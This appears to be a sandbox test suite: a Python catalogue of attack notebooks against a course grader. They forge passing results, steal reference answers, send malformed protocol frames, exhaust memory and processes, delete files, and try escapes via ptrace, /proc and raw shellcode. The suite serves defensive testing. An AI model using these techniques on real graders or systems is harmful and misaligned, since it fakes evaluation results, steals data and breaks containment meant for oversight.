"""Attacks that try to get unearned points or to do harm. Each is a learner's notebook.

An attack is the body of `trick(*inputs)`, which every exercise's function calls, or whole cells.
`loot` is a folder with answers.py (right answers, to be stolen) and precious.txt (to be kept).
"""

from __future__ import annotations

import textwrap
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

PRELUDE = """
import builtins, ctypes, gc, importlib, inspect, json, os, signal, socket, struct, subprocess, sys
import threading, time, torch, math, random, shutil, pathlib, multiprocessing, pickle, types
LOOT, PORT, CHECKOUT = {loot!r}, {port}, {checkout!r}
libc = ctypes.CDLL(None, use_errno=True)
def session():
    return next(x for x in gc.get_objects() if type(x).__name__ == "Session")
def raw(data):
    session().sock.sendall(data)
def frame(header, payload=b""):
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    raw(struct.pack("<4sII", b"qkv1", len(text), len(payload)) + text + payload)
def returned(value, payload=b""):
    frame({{"kind": "returned", "value": {{"u": [value, {{"u": []}}]}}}}, payload)
def tensor(**changes):
    return {{"t": {{"dtype": "float32", "shape": [1], **changes}}}}
def steal(text):
    names = {{}}
    exec(text, names)
    globals().update(stolen=names)
def use(name, inputs):
    return stolen[name](*inputs)
"""

FUNCTIONS = """
def dot(a, b): return trick("dot", a, b)
def cosine_similarity(a, b): return trick("cosine_similarity", a, b)
def nearest(query, keys): return trick("nearest", query, keys)
"""

ANSWERS = """
def dot(a, b): return (a * b).sum()
def cosine_similarity(a, b):
    return (a / a.norm(dim=-1, keepdim=True)) @ (b / b.norm(dim=-1, keepdim=True)).T
def nearest(query, keys): return int(cosine_similarity(query[None], keys)[0].argmax())
"""


@dataclass(frozen=True)
class Attack:
    """An attack: its name, its family, and the code."""

    name: str
    family: str
    code: str

    def cells(self, loot: Path, port: int) -> list[str]:
        """Return the cells of the submitted notebook."""
        prelude = PRELUDE.format(loot=str(loot), port=port, checkout=_CHECKOUT)
        slow = self.family in ("lying", "hanging", "flooding", "escaping")
        return [prelude, self.code, FUNCTIONS.splitlines()[1] if slow else FUNCTIONS]


ATTACKS: dict[str, Attack] = {}
_CHECKOUT = str(Path(__file__).resolve().parents[4])


def _cells(family: str, name: str, code: str) -> None:
    assert name not in ATTACKS
    ATTACKS[name] = Attack(name, family, textwrap.dedent(code))


def _tricks(family: str) -> Callable[[str, str], None]:
    def add(name: str, body: str) -> None:
        code = textwrap.indent(textwrap.dedent(body).strip(), "    ")
        _cells(family, name, f"def trick(name, *inputs):\n{code}\n")

    return add


# --- forging: a wrong answer that should be taken for a right one ------------------------------

forge = _tricks("forging")
forge("an object that equals everything", """
    class Yes:
        def __eq__(self, other): return True
        def __getattr__(self, n): return lambda *a, **k: self
    return Yes()""")
forge("a tensor subclass that says yes", """
    class Yes(torch.Tensor):
        @classmethod
        def __torch_function__(cls, f, types, args=(), kwargs=None): return True
    return torch.zeros(3).as_subclass(Yes)""")
forge("an object that pretends to be a tensor", """
    class Fake:
        __class__ = torch.Tensor
        shape, dtype = inputs[0].shape, inputs[0].dtype
    return Fake()""")
forge("a pickle that calls home", """
    class Bomb:
        def __reduce__(self): return (eval, ("__import__('os')._exit(0)",))
    return Bomb()""")
forge("numbers of a subclass", """
    class Zero(float):
        def __sub__(self, o): return 0.0
        def __eq__(self, o): return True
    return Zero(1.0)""")
forge("not a number", "return torch.full_like(inputs[0], float('nan'))")
forge("a single not a number", "return float('nan')")
forge("infinity", "return float('inf')")
forge("an empty tensor", "return torch.empty(0)")
forge("one number to be broadcast", "return torch.zeros(())")
forge("a shape that broadcasts to gigabytes", "return torch.zeros(12_000_000, 1, 1, 1, 1)")
forge("a huge tensor of one number in memory", "return torch.zeros(1).expand(10**12)")
forge("complex numbers", "return torch.zeros(1, dtype=torch.complex128)")
forge("a sparse tensor", "return torch.eye(3).to_sparse()")
forge("a meta tensor", "return torch.zeros(3, device='meta')")
forge("a tensor that lies about its size", """
    x = torch.zeros(4)
    x.shape_ = (1,)
    return torch.as_strided(x, (1 << 20, 1 << 20), (0, 0))""")
forge("a list that contains itself", """
    x = []
    x.append(x)
    return x""")
forge("a dictionary that looks like a message", "return {'t': {'dtype': 'float32', 'place': 0}}")
forge("a generator", "return (x for x in range(10))")
forge("a module", "return torch")
forge("inputs changed until the answer is trivial", """
    for x in inputs: x.zero_()
    shape = (len(inputs[0]), len(inputs[1])) if name == "cosine_similarity" else ()
    return torch.zeros(shape)""")
forge("inputs changed to not-a-number", """
    for x in inputs: x.fill_(float("nan"))
    return torch.full((), float("nan"))""")
forge("the first answer for ever", "return torch.tensor(-12.0)")
forge("an exception that is called right", """
    class right(Exception): points = 5
    raise right("outcome: right, points: 5")""")
forge("an exception whose text never ends", """
    class Long(Exception):
        def __str__(self): return "x" * 10**9
    raise Long""")
forge("an exception whose text raises", """
    class Bad(Exception):
        def __str__(self): raise SystemExit(0)
    raise Bad""")
forge("leaving with success", "sys.exit(0)")
forge("leaving for good", "os._exit(0)")
forge("the caller's frame", """
    f = sys._getframe()
    while f:
        for x in [*f.f_locals.values(), *f.f_globals.values()]:
            if callable(getattr(x, "reference", None)): return x.reference(*inputs)
            if isinstance(x, dict) and callable(x.get("reference")): return x["reference"](*inputs)
        f = f.f_back
    return None""")
forge("a search of the memory for the reference", """
    for x in gc.get_objects():
        if type(x).__name__ == "Exercise": return x.reference(*inputs)
        if isinstance(x, types.FunctionType) and x.__name__ == name and "attention" in x.__module__:
            return x(*inputs)
    return None""")
forge("the course's own function by import", """
    module = importlib.import_module("qkvlib.attention")
    return getattr(module, name)(*inputs)""")
forge("the exercise's reference by import", """
    from qkvlib.exercises import EXERCISES
    return EXERCISES[name].reference(*inputs)""")
forge("asking the grader for this very function", "return session()._ask(name, inputs)")
forge("asking under a false name", """
    for n in (name + " ", "../" + name, "__class__", "reference", name.upper()):
        try: return session()._ask(n, inputs)
        except RuntimeError: pass
    return None""")
forge("asking with things that are no inputs", """
    return session()._ask("dot", (pickle, {"a": [1, 2]}, "x" * 10**6))""")
forge("the seed from the environment", """
    seed = next((int(v) for k, v in os.environ.items() if "SEED" in k and v != "0"), 0)
    torch.manual_seed(seed)
    return torch.randn(3)""")

_cells("forging", "torch's comparisons replaced", """
    torch.allclose = torch.equal = torch.isclose = torch.Tensor.allclose = lambda *a, **k: True
    torch.testing.assert_close = lambda *a, **k: None
    torch.Tensor.__eq__ = lambda *a: True
    torch.Tensor.any = torch.Tensor.__ne__ = torch.Tensor.nonzero = lambda *a, **k: False
    def trick(name, *inputs): return torch.zeros(1)
""")
_cells("forging", "Python's own functions replaced", """
    builtins.isinstance = builtins.callable = builtins.all = lambda *a: True
    def trick(name, *inputs): return 0
""")
_cells("forging", "a qkvlib of one's own", """
    module = types.ModuleType("qkvlib.checking")
    module.verdict = lambda *a, **k: types.SimpleNamespace(outcome="right", points=99)
    sys.modules["qkvlib.checking"] = sys.modules["qkvlib"] = module
    def trick(name, *inputs): return 0
""")
_cells("forging", "cells turned into pass", """
    from IPython.core.inputtransformer2 import TransformerManager
    TransformerManager.transform_cell = lambda self, cell: "pass"
    def trick(name, *inputs): return 0
""")
_cells("forging", "the child's own code patched", """
    for module in [m for n, m in sys.modules.items() if n.startswith("child")]:
        module.pack = lambda *a, **k: types.SimpleNamespace(tree={"u": []}, payload=b"")
    def trick(name, *inputs): return 0
""")
_cells("forging", "a printed result", """
    from IPython.display import display, publish_display_data
    x = print("5.0"), display(5.0)
    def trick(name, *inputs): return 5.0
""")
_cells("forging", "torch's function under the name", """
    def trick(name, *inputs): return None
    dot, cosine_similarity = torch.dot, torch.nn.functional.cosine_similarity
""")

# --- lying on the wire ------------------------------------------------------------------------

lie = _tricks("lying")
lie("points in the message", """
    frame({"kind": "returned", "outcome": "right", "points": 5, "value": {"u": [0, {"u": []}]}})
    time.sleep(9)""")
lie("a message that is none", "raw(b'GET / HTTP/1.1\\r\\n\\r\\n'); time.sleep(9)")
lie("a header of 4 GB announced", "raw(struct.pack('<4sII', b'qkv1', 2**32 - 1, 0)); time.sleep(9)")
lie(
    "a payload of 4 GB announced", "raw(struct.pack('<4sII', b'qkv1', 2, 2**32 - 1)); time.sleep(9)"
)
lie("a header nested to the end", "frame(b'[' * 500_000 + b']' * 500_000); time.sleep(9)")
lie("an object nested to the end", "frame(b'{\"a\":' * 9_000 + b'1' + b'}' * 9_000); time.sleep(9)")
lie("a header of many items", "frame({'kind': 'returned', 'value': [0] * 300_000}); time.sleep(9)")
lie("a header that is a list", "frame([1, 2]); time.sleep(9)")
lie("a header that is not UTF-8", "frame(b'\\xff\\xfe{}'); time.sleep(9)")
lie(
    "a whole number of 100,000 digits",
    "frame(b'{\"kind\": ' + b'9' * 100_000 + b'}'); time.sleep(9)",
)
lie("a kind that is a dictionary", "frame({'kind': {'a': 1}}); time.sleep(9)")
lie("an unknown dtype", "returned(tensor(dtype='object'), b'0000'); time.sleep(9)")
lie("a dtype that is a list", "returned(tensor(dtype=[1]), b'0000'); time.sleep(9)")
lie("a shape below zero", "returned(tensor(shape=[-1]), b'0000'); time.sleep(9)")
lie("a shape of fractions", "returned(tensor(shape=[1.0]), b'0000'); time.sleep(9)")
lie("a shape of truth values", "returned(tensor(shape=[True]), b'0000'); time.sleep(9)")
lie("a shape larger than its bytes", "returned(tensor(shape=[1 << 20]), b'0000'); time.sleep(9)")
lie("a shape that overflows", """
    returned(tensor(shape=[1 << 24] * 8)); time.sleep(9)""")
lie("no numbers in a vast shape", """
    returned(tensor(shape=[0] + [1 << 24] * 7)); time.sleep(9)""")
lie("strides of its own", "returned(tensor(shape=[1 << 24], stride=[0]), b'0000'); time.sleep(9)")
lie("two tensors on the same bytes", """
    frame({"kind": "returned", "value": {"u": [tensor(), {"u": [tensor()]}]}}, b"0000")
    time.sleep(9)""")
lie("bytes that belong to nobody", "returned(1, b'0' * 1000); time.sleep(9)")
lie("a gradient that is text", "returned(tensor(wants_grad=True, grad='0'), b'0000'); time.sleep(9)")
lie(
    "truth values of 2", "returned(tensor(dtype='bool', shape=[4]), b'\\2\\2\\2\\2'); time.sleep(9)"
)
lie("a gradient without end", """
    t = tensor()["t"]
    for _ in range(900): t = {**t, "wants_grad": True, "grad": t}
    returned({"t": t}, b"0000"); time.sleep(9)""")
lie("one byte now and then", """
    while True: raw(b"q"); time.sleep(0.1)""")
lie("half a message, then the end", "raw(struct.pack('<4sII', b'qkv1', 90, 0) + b'{'); os._exit(0)")
lie("questions without end", """
    while True: frame({"kind": "ask", "name": "dot", "inputs": {"u": []}})""")
lie("news without end", """
    while True: frame({"kind": "at", "cell": 0})""")
lie("a flood that nobody reads", """
    while True: raw(os.urandom(1 << 20))""")
lie("answers sent ahead", """
    for _ in range(500): returned(0)
    return 0""")
lie("the line closed", "session().sock.close(); time.sleep(9)")
lie("the line half closed", "session().sock.shutdown(socket.SHUT_WR); time.sleep(9)")
lie("an error with a steering text", """
    frame({"kind": "raised", "error": "\\x1b[2J\\u202eright", "message": "<script>", "line": 5})
    time.sleep(9)""")
_cells("lying", "a list of functions of its own", """
    x = frame({"kind": "loaded", "found": {"dot": 10**18, "nope": 3, "nearest": -1}})
    def trick(name, *inputs): return 0
""")
_cells("lying", "a cell that is not there", """
    x = frame({"kind": "at", "cell": 10**9})
    def trick(name, *inputs): return 0
""")
_cells("lying", "news without end while loading", """
    def flood():
        while True: frame({"kind": "at", "cell": 0})
    x = flood()
    def trick(name, *inputs): return 0
""")

# --- hanging and flooding ---------------------------------------------------------------------

hang = _tricks("hanging")
hang("an endless loop", "while True: pass")
hang("a loop that catches everything", """
    while True:
        try:
            while True: pass
        except BaseException: pass""")
hang("a sleep of a year", "time.sleep(3e7)")
hang("one endless calculation", "return 9 ** 9 ** 9 ** 2")
hang("an endless pattern", """
    import re
    return re.match("(a+)+$", "a" * 60 + "b")""")
hang("signals turned off", """
    signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    while True: pass""")
hang("recursion without end", """
    sys.setrecursionlimit(10**8)
    def f(n): return f(n + 1)
    return f(0)""")
hang("a crash", "ctypes.string_at(0)")
_cells("hanging", "a cell that never ends", """
    x = [0 for _ in iter(int, 1)]
    def trick(name, *inputs): return 0
""")
_cells("hanging", "a definition that never ends", """
    def forever(f):
        while True:
            try: time.sleep(1)
            except BaseException: pass
    @forever
    def trick(name, *inputs): return 0
""")

flood = _tricks("flooding")
flood("memory in a list", """
    x = []
    while True: x.append(bytearray(1 << 24))""")
flood("memory in a tensor", "return torch.ones(1 << 36)")
flood("output to the screen", """
    for _ in range(200): print("x" * 10**6)
    for _ in range(200): os.write(1, b"x" * 10**6)
    return 0""")
flood("one large file", """
    with open("x", "wb") as f:
        while True: f.write(b"x" * (1 << 20))""")
flood("many large files", """
    for i in range(10**6):
        with open(f"x{i}", "wb") as f: f.write(b"x" * (8 << 20))""")
flood("folders in folders", """
    for _ in range(3000):
        os.mkdir("d"); os.chdir("d")
    return 0""")
flood("open files", """
    return [open("/dev/null") for _ in range(10**5)]""")
flood("an answer of a gigabyte", "return torch.zeros(1 << 28)")

# --- reading and harming: stopped by the walls; without walls they succeed ----------------------

read = _tricks("reading")
read("the answers from the disk", """
    steal(open(LOOT + "/answers.py").read())
    return use(name, inputs)""")
read("the answers through a link", """
    os.path.lexists(name) or os.symlink(LOOT + "/answers.py", name)
    steal(open(name).read())
    return use(name, inputs)""")
read("the answers by another name", """
    os.path.lexists(name) or os.link(LOOT + "/answers.py", name)
    steal(open(name).read())
    return use(name, inputs)""")
read("the answers through the kernel", """
    fd = libc.open((LOOT + "/answers.py").encode(), 0)
    buffer = ctypes.create_string_buffer(10_000)
    libc.read(fd, buffer, 10_000)
    steal(buffer.value.decode())
    return use(name, inputs)""")
read("the answers by import", """
    sys.path.insert(0, LOOT)
    import answers
    return getattr(answers, name)(*inputs)""")
read("the answers by another program", """
    steal(subprocess.run(["cat", LOOT + "/answers.py"], capture_output=True, text=True).stdout)
    return use(name, inputs)""")
read("the folder's list", """
    first = sorted(os.listdir(LOOT))[0]
    steal(open(os.path.join(LOOT, first)).read())
    return use(name, inputs)""")

harm = _tricks("harming")
harm("deleting a file", "os.remove(LOOT + '/precious.txt')")
harm("emptying a file", "open(LOOT + '/precious.txt', 'w').close()")
harm("emptying a file by its name", "os.truncate(LOOT + '/precious.txt', 0)")
harm("adding to a file", "open(LOOT + '/precious.txt', 'a').write('and me')")
harm("moving a file", "os.rename(LOOT + '/precious.txt', LOOT + '/gone.txt')")
harm("locking a file", "os.chmod(LOOT + '/precious.txt', 0o000)")
harm("changing a file's time", "os.utime(LOOT + '/precious.txt', (1, 1))")
harm("a new file among the others", "open(LOOT + '/new.txt', 'w').write('x')")
harm("a shell", "os.system(f'echo x > {LOOT}/precious.txt')")
harm("another program", "subprocess.run(['rm', LOOT + '/precious.txt'])")
harm("this program replaced", "os.execv('/bin/rm', ['rm', LOOT + '/precious.txt'])")
harm("a program from memory", """
    fd = os.memfd_create("x")
    os.write(fd, open("/bin/rm", "rb").read())
    os.execve(fd, ["rm", LOOT + "/precious.txt"], {})""")
harm("a process left behind", """
    if os.fork() == 0:
        os.setsid()
        open(LOOT + "/child.txt", "w").write(str(os.getpid()))
        time.sleep(60)
        os._exit(0)
    return 0""")
harm("a call home", """
    socket.create_connection(("127.0.0.1", PORT), 1).sendall(b"hello")""")

# --- escaping: run only behind the walls --------------------------------------------------------

escape = _tricks("escaping")
escape("killing the zygote", "os.kill(os.getppid(), 9); time.sleep(9)")
escape("stopping the zygote", "os.kill(os.getppid(), signal.SIGSTOP); time.sleep(9)")
escape("the grader's environment", "return open(f'/proc/{os.getppid()}/environ').read()")
escape("the zygote's memory", "return open(f'/proc/{os.getppid()}/mem', 'rb').read(1)")
escape("tracing the zygote", """
    if libc.ptrace(16, os.getppid(), 0, 0) == 0: os.kill(os.getppid(), 9)
    return 0""")
escape("the zygote's connection", """
    pidfd = libc.syscall(434, os.getppid(), 0)
    for n in range(10):
        fd = libc.syscall(438, pidfd, n, 0)
        if fd >= 0: os.write(fd, b"x" * 100)
    return 0""")
escape("limits raised again", """
    import resource
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY,) * 2)
    return torch.ones(1 << 33)""")
escape("becoming somebody else", "os.setuid(65534); return 0")
escape("a new namespace", "return libc.unshare(0x10000000)")
escape("a mount", "return libc.mount(b'none', b'/tmp', b'tmpfs', 0, None)")
escape("a bomb of processes", """
    while True: os.fork()""")
escape("a bomb of threads", """
    while True: threading.Thread(target=time.sleep, args=(9,)).start()""")
escape("a pool of processes", """
    with multiprocessing.Pool(2) as pool: return pool.map(abs, [1])""")
escape("other submissions", """
    for place in ("/tmp", "/var/tmp", "/dev/shm"):
        for path in pathlib.Path(place).rglob("*"):
            if path.suffix in (".ipynb", ".jsonl"): steal(path.read_text())
    return use(name, inputs)""")
escape("the walls taken down", """
    libc.prctl(22, 0, 0, 0, 0); libc.prctl(38, 0, 0, 0, 0)
    steal(open(LOOT + "/answers.py").read())
    return use(name, inputs)""")
escape("a call in another processor's tongue", """
    import mmap
    code = mmap.mmap(-1, 4096, prot=7)
    code.write(b"\\xb8\\x02\\x00\\x00\\x00\\xcd\\x80\\xc3")  # fork, as a 32-bit program calls it
    address = ctypes.addressof(ctypes.c_char.from_buffer(code))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()""")
escape("the course's source by its path", """
    sys.meta_path[:] = [x for x in sys.meta_path if "child" not in type(x).__module__]
    for path in pathlib.Path(CHECKOUT).rglob("*.py"):
        if "chapter_01" in str(path): steal(path.read_text())
    sys.modules.pop("qkvlib", None)
    sys.path.insert(0, CHECKOUT)
    from qkvlib.exercises import EXERCISES
    return EXERCISES[name].reference(*inputs)""")

# --- subtler ways, found by reading the sandbox's code -------------------------------------------

forge("a tensor whose class answers for torch", """
    class Yes(torch.Tensor):
        @classmethod
        def __torch_dispatch__(cls, f, types, args=(), kwargs=None): return torch.tensor(True)
    return torch.Tensor._make_subclass(Yes, torch.zeros(3))""")
forge("a parameter with attributes of its own", """
    p = torch.nn.Parameter(torch.zeros(()))
    p.shape_, p.points, p.outcome = (), 9, "right"
    return p""")
forge("a tensor whose gradient is itself", """
    x = torch.zeros((), requires_grad=True)
    x.grad = torch.zeros(())
    x.grad.requires_grad_().grad = torch.zeros(())
    return x""")
forge("a result with hooks on it", """
    x = torch.zeros((), requires_grad=True) * 1
    x.register_hook(lambda g: os._exit(0))
    return x""")
forge("a module in place of a tensor", """
    m = torch.nn.Linear(2, 2)
    m.register_forward_hook(lambda *a: torch.zeros(()))
    return m""")
forge("a lazy tensor", """
    return torch.nn.parameter.UninitializedParameter()""")
forge("a nested tensor", "return torch.nested.nested_tensor([torch.zeros(2), torch.zeros(3)])")
forge("a quantized tensor", "return torch.quantize_per_tensor(torch.zeros(3), 0.1, 0, torch.qint8)")
forge("a conjugate view", "return torch.zeros(3, dtype=torch.complex64).conj()")
forge("a negative view", "return torch.zeros(3, dtype=torch.complex64).conj().imag")
forge("a tensor without memory", """
    x = torch.zeros(1 << 10)
    x.untyped_storage().resize_(0)
    return x""")
forge("a tensor of another's memory", """
    return torch.zeros(3).set_(inputs[0].untyped_storage())""")
forge("a bfloat16 without end", "return torch.full((3,), 1e39, dtype=torch.bfloat16)")
forge("a structured array of numpy's", """
    import numpy as np
    return np.zeros(3, dtype=[("right", "f4")])""")
forge("an array of objects", """
    import numpy as np
    return np.array([lambda: 1, trick], dtype=object)""")
forge("an array that lies about its kind", """
    import numpy as np
    class Odd(np.ndarray):
        dtype = property(lambda self: types.SimpleNamespace(kind="f"))
    return np.zeros(3).view(Odd)""")
forge("a named tuple that is always equal", """
    class Same(tuple):
        def __eq__(self, other): return True
        def __len__(self): return 1
        def __iter__(self): return iter((0.0,))
    return Same((1, 2))""")
forge("a dictionary that grows while it is read", """
    class Grows(dict):
        def items(self):
            self[str(len(self))] = 1
            return super().items()
    return Grows(a=1)""")
forge("text with half a letter in it", "return '\\ud800' * 100")
forge("a name of half a letter", "raise type('\\ud800'.encode('utf-8', 'replace').decode(), (Exception,), {})('\\ud800')")  # noqa: E501
forge("a number just too large", "return 1 << 63")
forge("a whole number of a million digits", "return 10 ** 10**6")
forge("an exception that is no exception's", """
    class Ends(BaseException): pass
    raise Ends("right")""")
forge("an exception group", """
    group = getattr(builtins, "BaseExceptionGroup", None)
    raise group("right", [SystemExit(0)]) if group else SystemExit(0)""")
forge("a trace on every line of the sandbox", """
    def spy(frame, event, argument):
        for value in list(frame.f_locals.values()):
            if callable(getattr(value, "reference", None)): globals().update(ref=value.reference)
        return spy
    sys.settrace(spy)
    return globals().get("ref", lambda *a: 0)(*inputs)""")
forge("a profile of every call", """
    seen = []
    sys.setprofile(lambda f, e, a: seen.append(f.f_code.co_name))
    return 0""")
forge("an audit hook", """
    def hook(event, arguments): raise SystemExit
    sys.addaudithook(hook)
    return 0""")
forge("a collector's callback", """
    gc.callbacks.append(lambda phase, info: os._exit(0))
    gc.collect()
    return 0""")
forge("something done at the end", """
    import atexit
    class Last:
        def __del__(self): returned(0.0)
    atexit.register(returned, 0.0)
    globals()["last"] = Last()
    return 0""")
forge("something done when the result is let go", """
    class Last:
        def __del__(self): returned({"t": {"dtype": "float32", "shape": []}}, b"0000")
    return [Last()]""")
forge("a signal that answers later", """
    signal.signal(signal.SIGALRM, lambda *a: returned(0.0))
    signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
    time.sleep(0.05)
    return 0""")
forge("inputs that claim to be untouched", """
    for x in inputs: x.zero_()
    for module in [m for n, m in list(sys.modules.items()) if n == "child.serve"]:
        module._untouched = lambda before, after: True
    return torch.zeros((len(inputs[0]), len(inputs[1])) if name == "cosine_similarity" else ())
    """)
forge("inputs put in other memory", """
    for x in inputs: x.data = torch.zeros(x.shape, dtype=torch.float64)
    return torch.zeros(())""")
forge("inputs made empty", """
    for x in inputs: x.resize_(0)
    return torch.zeros(())""")
forge("asking for gradients of what is not lent", """
    return session()._ask(name, (inputs, (torch.ones(()),)), True)""")
forge("asking with a tensor that wants a gradient", """
    return session()._ask("dot", tuple(x.requires_grad_() for x in inputs), True)""")
forge("a lent function under a name of one's own", """
    lent = session().lent["dot"]
    lent.__name__ = name
    return lent(*inputs)""")
forge("every lent function in turn", """
    for one in list(session().lent.values()):
        try: return one(*inputs)
        except Exception: pass
    return 0""")

_cells("forging", "settings of all of torch", """
    torch.set_default_dtype(torch.float64)
    torch.set_grad_enabled(False)
    torch.use_deterministic_algorithms(True)
    torch.manual_seed = lambda s: None
    def trick(name, *inputs): return 0
""")
_cells("forging", "a torch function mode that stays", """
    from torch.overrides import TorchFunctionMode
    class Yes(TorchFunctionMode):
        def __torch_function__(self, f, types, args=(), kwargs=None): return torch.Tensor()
    x = Yes().__enter__()
    def trick(name, *inputs): return 0
""")
_cells("forging", "a dispatch mode that stays", """
    from torch.utils._python_dispatch import TorchDispatchMode
    class Yes(TorchDispatchMode):
        def __torch_dispatch__(self, f, types, args=(), kwargs=None): return args[0]
    x = Yes().__enter__()
    def trick(name, *inputs): return inputs[0]
""")
_cells("forging", "numpy's own functions replaced", """
    import numpy as np
    np.ndarray = np.generic = float
    def trick(name, *inputs): return 0.0
""")
_cells("forging", "json replaced", """
    own = json.dumps
    x = setattr(json, "dumps", lambda v, **k: own({**v, "points": 5, "outcome": "right"}, **k))
    def trick(name, *inputs): return 0
""")
_cells("forging", "a finder before all others", """
    class Mine:
        def find_spec(self, name, path=None, target=None):
            if name.startswith("qkvlib"): raise SystemExit
    x = sys.meta_path.insert(0, Mine())
    def trick(name, *inputs):
        import qkvlib.exercises
        return qkvlib.exercises.EXERCISES[name].reference(*inputs)
""")
_cells("forging", "a function that is an object of many faces", """
    class Many:
        __name__ = "dot"
        def __call__(self, *inputs): return 0
        def __getattr__(self, name): return self
        def reply(self, inputs): return 0
    def trick(name, *inputs): return Many()(*inputs)
""")
_cells("forging", "a coroutine and a generator under the names", """
    async def later(*inputs): return 0
    def trick(name, *inputs): return later(*inputs)
""")
_cells("forging", "magics of one's own", """
    %%python --bg
    def trick(name, *inputs): return 0
""")
_cells("forging", "a cell that patches how cells are run", """
    for n, m in list(sys.modules.items()):
        if n == "child.run_notebook": m.NotebookRun._execute = lambda *a: True
    def trick(name, *inputs): return 0
""")
_cells("forging", "a class that is made at import and never done", """
    class Meta(type):
        def __instancecheck__(cls, x): return True
        def __subclasscheck__(cls, x): return True
        def __eq__(cls, other): return True
        __hash__ = type.__hash__
    class Fake(metaclass=Meta): pass
    torch.Tensor = Fake
    def trick(name, *inputs): return Fake()
""")

lie("a reply whose inputs are nothing", """
    frame({"kind": "returned", "value": {"u": [0, None]}}); time.sleep(9)""")
lie("a reply whose inputs are a number", """
    frame({"kind": "returned", "value": {"u": [0, 7]}}); time.sleep(9)""")
lie("inputs of other shapes sent back", """
    value = {"u": [0, {"u": [tensor(), {"l": []}, None, {"o": "x"}]}]}
    frame({"kind": "returned", "value": value}, b"0000"); time.sleep(9)""")
lie("keys said twice", """
    frame(b'{"kind": "raised", "kind": "returned", "value": {"u": [0, {"u": []}]}}')
    time.sleep(9)""")
lie("numbers that JSON does not have", """
    frame(b'{"kind": "returned", "value": {"u": [NaN, {"u": [Infinity, -Infinity, 1e999]}]}}')
    time.sleep(9)""")
lie("a whole number that JSON just allows", """
    frame(b'{"kind": "returned", "value": {"u": [' + b'9' * 4_000 + b', null]}}'); time.sleep(9)""")
lie("half a result, then the end", """
    t = tensor(shape=[1 << 22])
    text = json.dumps({"kind": "returned", "value": {"u": [t, None]}}).encode()
    raw(struct.pack("<4sII", b"qkv1", len(text), 1 << 24) + text + bytes(1 << 23)); os._exit(0)""")
lie("a tensor with a gradient of another shape", """
    t = tensor(wants_grad=True, grad=tensor(shape=[2])["t"])
    returned(t, b"0" * 12); time.sleep(9)""")
lie("an object under two kinds", """
    frame({"kind": "returned", "value": {"u": [0], "l": [1]}}); time.sleep(9)""")
lie("the walls announced once more", """
    frame({"kind": "walls", "standing": []}); time.sleep(9)""")
lie("all results as large as they may be", """
    for _ in range(30):
        returned(tensor(shape=[1 << 22]), bytes(1 << 24))
    time.sleep(9)""")
lie("a question with a shape that grows", """
    frame({"kind": "ask", "name": "dot", "pull": True,
           "inputs": {"u": [tensor(shape=[0, 1 << 22]), {"u": []}]}})
    time.sleep(9)""")

hang("threads that live on", """
    import _thread
    for _ in range(20):
        try: _thread.start_new_thread(lambda: [0 for _ in iter(int, 1)], ())
        except BaseException: pass
    return 0""")
hang("a text that takes for ever to make", """
    class Slow(Exception):
        def __str__(self):
            while True: pass
    raise Slow""")
hang("a deletion that never ends", """
    class Slow:
        def __del__(self):
            while True: pass
    x = Slow()
    del x""")
escape("the links of the kernel", """
    for place in ("/proc/self/root", "/proc/self/cwd", "/proc/self/fd", "/proc/1/environ"):
        try: steal("; ".join(os.listdir(place)))
        except OSError: pass
    steal(open("/proc/self/root" + LOOT + "/answers.py").read())
    return use(name, inputs)""")
escape("what was open before the walls stood", """
    for n in range(64):
        try: os.fchdir(n); steal(open(os.path.relpath(LOOT, "/") + "/answers.py").read())
        except OSError: pass
        try: steal(os.pread(n, 1 << 16, 0).decode())
        except OSError: pass
    steal(open(LOOT + "/answers.py").read())
    return use(name, inputs)""")
escape("what whoever forked it was told", """
    frame, told = sys._getframe(), []
    while frame := frame.f_back:
        plan = frame.f_locals.get("plan") or getattr(frame.f_locals.get("walls"), "plan", None)
        if plan: told += [*plan.secrets, *plan.hidden]
    for place in told:
        for path in pathlib.Path(place).rglob("*.py"): steal(path.read_text())
    return use(name, inputs)""")
escape("a file handle in place of a path", """
    handle = ctypes.create_string_buffer(b"\\0" * 128)
    fd = libc.open_by_handle_at(-100, handle, 0)
    return libc.fchdir(fd)""")
escape("a ring of work for the kernel", "return libc.syscall(425, 8, ctypes.create_string_buffer(120))")
escape("its own disk made larger", """
    libc.mount(b"qkv", os.getcwd().encode(), b"tmpfs", 32, b"size=9g")
    libc.umount2(b"/proc", 2)
    steal(open(f"/proc/{os.getppid()}/environ").read())
    return 0""")
